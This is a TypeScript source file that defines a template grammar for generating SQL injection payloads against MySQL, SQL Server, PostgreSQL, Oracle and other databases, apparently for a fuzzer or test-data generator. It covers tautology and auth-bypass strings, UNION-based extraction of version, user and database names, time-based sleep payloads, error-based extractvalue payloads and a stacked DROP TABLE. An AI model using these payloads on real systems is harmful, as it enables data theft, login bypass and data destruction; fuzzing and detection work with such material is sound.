/** SQL injection: MySQL, SQL Server, PostgreSQL, Oracle, SQLite, DB2, Access. */
export const SQLI = String.raw`
q: 6× '
  2× "
  ∅
  ')
  '))
  ")
  )
  '␠
  %'
  \'
s: 14× ␠
  /**/
  +
  ⇥
  ⏎
  ␠␠
  /*‹~2-5›*/
sqlend: 4× -- -
  3× --
  2× #
  2× --␠
  -- ‹rnd›
  --+
  ;--
  /*
  ;␀
  ∅
  -- ‹noun›
true: ‹=a:‹n››=‹=a›
  '‹=a:‹rnd››'='‹=a›
  '‹=a:‹n››'='‹=a›'
  ‹#6-9›>‹#1-5›
  "‹=a:‹~1-3››"="‹=a›
  1
  true
  not false
  '‹=a:‹~1-2››' like '‹=a›
  ‹=a:‹n›› in (‹=a›)
  ‹n› between 0 and 99999
  ‹=a:‹n››<=>‹=a›
op: 4× or
  3× OR
  2× and
  3× AND
  ||
  &&
  oR
  xor
sqli/tautology 5: ‹q›‹s›‹op›‹s›‹true›
  3× ‹q›‹s›‹op›‹s›‹true›‹sqlend›
  ‹q›‹op›‹true›‹sqlend›
  ‹q›‹s›‹op›‹s›(‹true›)‹sqlend›
sqli/union 5: ‹q›‹s›‹un›‹s›‹sel›‹s›‹×1-14,:‹ucol››‹sqlend›
  ‹n›‹q›‹s›‹un›‹s›‹sel›‹s›‹×1-8,:‹ucol››‹s›‹FROM¦from¦From›‹s›‹tab›‹sqlend›
un = UNION union UnIoN UNION␠ALL union␠all /*!50000UNION*/ /*!union*/ uNiOn␠AlL
sel = SELECT select SeLeCt /*!50000SELECT*/ /*!select*/ sElEcT
ucol: 3× ‹#1-30›
  3× NULL
  null
  ‹col›
  @@version
  version()
  user()
  database()
  concat(‹col›,0x3a,‹col›)
  '‹~2-4›'
  0x‹%6-20›
sqli/time 4: ‹q›‹s›‹AND¦and¦OR¦or›‹s›‹SLEEP¦sleep›(‹#1-20›)‹sqlend›
  ‹q›;WAITFOR DELAY '0:0:‹#1-20›'‹sqlend›
  ‹q›;SELECT pg_sleep(‹#1-20›)‹sqlend›
sqli/auth 3: ‹admin¦root¦‹word››'‹sqlend›
  ' or 1=1‹sqlend›
sqli/boolean 4: ‹n›‹q› AND ‹=a:‹#1000-9999››=‹=a›‹sqlend›
sqli/stacked 3: ‹q›; DROP TABLE ‹tab›‹sqlend›
sqli/error 3: ‹q› AND extractvalue(1,concat(0x7e,(select ‹@@version¦user()¦database()›)))‹sqlend›
`
